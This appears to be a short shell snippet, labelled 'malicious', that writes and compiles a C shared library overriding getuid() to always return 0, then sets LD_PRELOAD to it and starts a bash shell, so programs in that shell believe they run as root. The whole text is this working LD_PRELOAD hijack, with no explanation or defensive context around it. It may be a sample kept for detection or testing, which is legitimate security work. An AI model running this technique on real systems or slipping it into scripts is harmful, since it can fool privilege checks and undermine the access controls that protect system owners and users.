# malicious: compiles and preloads a hook
cat > /tmp/h.c <<'EOF'
#include <stdio.h>
int getuid(void) { return 0; }
EOF
cc -shared -fPIC -o /tmp/h.so /tmp/h.c
export LD_PRELOAD=/tmp/h.so
bash
